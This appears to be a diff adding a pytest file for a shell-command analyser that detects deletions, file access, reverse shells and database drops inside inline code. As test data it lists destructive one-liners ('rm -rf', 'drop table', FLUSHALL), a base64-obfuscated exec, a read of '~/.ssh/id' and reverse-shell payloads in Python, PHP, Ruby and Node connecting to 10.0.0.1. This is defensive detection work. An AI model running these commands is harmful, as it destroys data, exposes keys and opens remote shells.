@@ -1,0 +1,152 @@
+"""Code of other languages within a command line."""
+
+from __future__ import annotations
+
+import pytest
+
+from governance.shell import HOLE, read_line
+from governance.shell.draft import quoted
+from governance.shell.expressions import Source
+
+
+def facts(program: str, text: str, fact: str) -> set[str]:
+    """A fact of everything that a text runs."""
+    line = read_line(f"{program} {quoted(text)}")
+    assert text in line.commands[0].code
+    return {one for command in line.commands for one in getattr(command, fact)}
+
+
+@pytest.mark.parametrize(
+    ("program", "text"),
+    [
+        ("python -c", "import os; os.system('rm -rf /x')"),
+        ("python -c", "import os as o; o.popen('rm -rf /x')"),
+        ("python -c", "__import__('os').system('rm -rf /x')"),
+        ("python -c", "getattr(os, 'system')('rm -rf /x')"),
+        ("python -c", "import subprocess; subprocess.run(['rm', '-rf', '/x'], check=True)"),
+        ("python -c", "from subprocess import run; run('rm -rf ' + '/x', shell=True)"),
+        ("python -c", "c = 'rm -rf /x'\nimport os\nos.system(c)"),
+        ("python -c", "import os; os.execvp('rm', ['rm', '-rf', '/x'])"),
+        ("python -c", "import shutil; shutil.rmtree('/x')"),
+        ("python -c", "import os; [os.remove(f) for f in ['/x']]"),
+        ("python -c", "from pathlib import Path; Path('/x').unlink()"),
+        ("python -c", "from pathlib import Path; p = Path('/') / 'x'; p.rmdir()"),
+        ("python -c", "exec(\"import os; os.remove('/x')\")"),
+        (
+            "python -c",
+            "import base64; exec(base64.b64decode('aW1wb3J0IG9zO29zLnJlbW92ZSgnL3gnKQ=='))",
+        ),
+        ("node -e", "require('child_process').execSync('rm -rf /x')"),
+        ("node -e", "const {spawn} = require('child_process'); spawn('rm', ['-rf', '/x'])"),
+        ("node -e", "const c = require('child_process'); c.exec(`rm -rf /x`)"),
+        ("node -e", "require('fs').rmSync('/x', {recursive: true})"),
+        ("node -e", "const f = require('fs'); f.unlinkSync('/x')"),
+        ("deno eval", "Deno.removeSync('/x')"),
+        ("perl -e", "system('rm -rf /x')"),
+        ("perl -e", "unlink '/x'"),
+        ("perl -e", "my $c = '/x'; `rm -rf /x`"),
+        ("perl -MFile::Path -e", "rmtree('/x')"),
+        ("ruby -e", "system('rm', '-rf', '/x')"),
+        ("ruby -e", "FileUtils.rm_rf('/x')"),
+        ("ruby -e", "%x(rm -rf /x)"),
+        ("ruby -e", "File.delete '/x'"),
+        ("php -r", "shell_exec('rm -rf /x');"),
+        ("php -r", "unlink('/x');"),
+        ("lua -e", "os.execute('rm -rf /x')"),
+        ("lua -e", "os.remove('/x')"),
+    ],
+)
+def test_what_is_removed_is_seen(program: str, text: str) -> None:
+    """By a call of the language, or by a command that it runs."""
+    assert facts(program, text, "removes") == {"/x"}
+
+
+@pytest.mark.parametrize(
+    ("program", "text", "fact", "paths"),
+    [
+        ("python -c", "open('/x', 'w').write('')", "writes", {"/x"}),
+        ("python -c", "open('/x', mode='a')", "writes", {"/x"}),
+        ("python -c", "print(open('/x').read())", "reads", {"/x"}),
+        ("python -c", "open(os.path.expanduser('~/.ssh/id'))", "reads", {"~/.ssh/id"}),
+        ("python -c", "open(os.environ['HOME'] + '/x')", "reads", {"~/x"}),
+        ("python -c", "open(os.path.join('/a', 'b'))", "reads", {"/a/b"}),
+        ("python -c", "open(f'/a/{name}')", "reads", {f"/a/{HOLE}"}),
+        ("python -c", "(Path.home() / '.x').write_text('')", "writes", {"~/.x"}),
+        ("python -c", "shutil.copy('/a', '/b')", "writes", {"/b"}),
+        ("node -e", "fs.writeFileSync('/x', '')", "writes", {"/x"}),
+        ("node -e", "fs.readFileSync(process.env.HOME + '/.x')", "reads", {"~/.x"}),
+        ("node -e", "fs.readFileSync(`${process.env.HOME}/.x`)", "reads", {"~/.x"}),
+        ("php -r", "file_put_contents('/x', 1);", "writes", {"/x"}),
+        ("ruby -e", "File.write('/x', '')", "writes", {"/x"}),
+        ("ruby -e", "puts File.read('/x')", "reads", {"/x"}),
+        ("perl -e", "open(F, '>', '/x')", "writes", {"/x"}),
+        ("perl -e", "open(F, '</x')", "reads", {"/x"}),
+        ("awk", '{print > "/x"}', "writes", {"/x"}),
+    ],
+)
+def test_files_of_code_are_seen(program: str, text: str, fact: str, paths: set[str]) -> None:
+    """Constants, what joins them, and the home folder are understood; all else is a hole."""
+    assert facts(program, text, fact) == paths
+
+
+@pytest.mark.parametrize(
+    ("program", "text", "host"),
+    [
+        (
+            "python -c",
+            "s.connect(('10.0.0.1', 4242)); os.dup2(s.fileno(), 0); import socket;"
+            " pty.spawn('/bin/sh')",
+            "10.0.0.1",
+        ),
+        ("php -r", "$s=fsockopen('10.0.0.1',1);exec('/bin/sh -i <&3');", "10.0.0.1"),
+        ("ruby -rsocket -e", "f=TCPSocket.open('10.0.0.1',1);exec '/bin/sh -i'", "10.0.0.1"),
+        ("node -e", "require('net').connect(1, '10.0.0.1', s => spawn('sh'))", "10.0.0.1"),
+    ],
+)
+def test_a_shell_on_a_socket_is_seen(program: str, text: str, host: str) -> None:
+    """The other end is a domain, and the shell a command of its own."""
+    line = read_line(f"{program} {quoted(text)}")
+
+    assert host in line.commands[0].domains
+    assert "socket" in {name for one in line.commands for name in one.wrappers}
+
+
+@pytest.mark.parametrize(
+    ("text", "language", "value"),
+    [
+        ("'a' + 'b'", "python", "ab"),
+        ("'a' . 'b'", "php", "ab"),
+        ("'/a' / 'b'", "python", "/a/b"),
+        ("'a'.join(['x', 'y'])", "python", "xay"),
+        ("'rm {}'.format('x')", "python", "rm x"),
+        ("'rm x'.split()", "python", ["rm", "x"]),
+        ("['a', 'b']", "python", ["a", "b"]),
+        ("'\\x41'", "python", "A"),
+        ("atob('cm0=')", "node", "rm"),
+        ("%w[rm x]", "ruby", ["rm", "x"]),
+        ("unknown", "python", HOLE),
+        ("f(", "python", HOLE),
+        ("", "python", HOLE),
+    ],
+)
+def test_values_of_constants(text: str, language: str, value: str | list[str]) -> None:
+    """An expression of constants has its value; any other is a hole."""
+    assert Source(text, language).value(0)[0] == value
+
+
+@pytest.mark.parametrize(
+    ("text", "code"),
+    [
+        ("psql -c 'drop table x'", "drop table x"),
+        ("mysql -e 'drop table x'", "drop table x"),
+        ("sqlite3 a.db 'drop table x'", "drop table x"),
+        ("echo 'drop table x' | psql h", "drop table x\n"),
+        ("redis-cli -h r FLUSHALL", "FLUSHALL"),
+        ("mongosh --eval 'db.x.drop()'", "db.x.drop()"),
+        ("bq query 'drop table x'", "drop table x"),
+        ("clickhouse-client -q 'drop table x'", "drop table x"),
+    ],
+)
+def test_statements_are_code(text: str, code: str) -> None:
+    """What a database is told stands in `code`, from an option, an operand or the input."""
+    assert code in {one for command in read_line(text).commands for one in command.code}
